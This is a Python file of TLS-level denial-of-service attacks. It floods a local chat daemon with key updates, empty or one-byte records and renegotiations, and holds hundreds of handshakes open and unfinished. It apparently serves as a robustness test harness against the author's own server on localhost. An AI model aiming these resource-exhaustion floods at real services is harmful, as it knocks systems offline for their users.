"""Attacks below the chat, by TLS records that bring no data and by handshakes that never end."""

from __future__ import annotations

import socket
import time
from collections import deque
from collections.abc import Callable

from flooding import PATIENCE, Flood
from forging import Forger


def forge(client: socket.socket, *, old: bool = False) -> Forger:
    """Return a forger over a socket."""

    def exchange(data: bytes) -> bytes:
        client.sendall(data)
        answer = client.recv(65536)
        if not answer:
            raise SystemExit("the daemon has hung up")
        return answer

    return Forger(exchange, old=old)


def key_updates(port: int, seconds: float) -> None:
    """Change the key all the time, and ask the daemon to change its own."""

    def begin(client: socket.socket) -> Callable[[], bytes]:
        forger = forge(client)
        return lambda: b"".join(forger.key_update(answer=True) for _ in range(32))

    Flood(port, 4, begin).run(seconds)


def empty_records(port: int, seconds: float) -> None:
    """Send records with nothing in them."""

    def begin(client: socket.socket) -> Callable[[], bytes]:
        forger = forge(client)
        return lambda: b"".join(forger.application() for _ in range(32))

    Flood(port, 4, begin).run(seconds)


def tiny_records(port: int, seconds: float) -> None:
    """Send records of one byte each, which never become a line."""

    def begin(client: socket.socket) -> Callable[[], bytes]:
        forger = forge(client)
        return lambda: b"".join(forger.application(b"x") for _ in range(64))

    Flood(port, 16, begin).run(seconds)


def renegotiations(port: int, seconds: float) -> None:
    """Ask for a new handshake all the time, which TLS 1.2 allows."""

    def begin(client: socket.socket) -> Callable[[], bytes]:
        forger = forge(client, old=True)
        return lambda: b"".join(forger.renegotiation() for _ in range(32))

    Flood(port, 4, begin).run(seconds)


def unfinished_handshakes(port: int, seconds: float) -> None:
    """Keep 300 handshakes begun and finish none; begin another for each that the daemon ends, at most 300 a second."""
    end = time.monotonic() + seconds
    begun: deque[socket.socket] = deque()
    while time.monotonic() < end:
        client = socket.create_connection(("127.0.0.1", port), PATIENCE)
        client.sendall(b"\x16\x03\x01\x02\x00\x01")
        begun.append(client)
        if len(begun) > 300:
            begun.popleft().close()
        time.sleep(1 / 300)
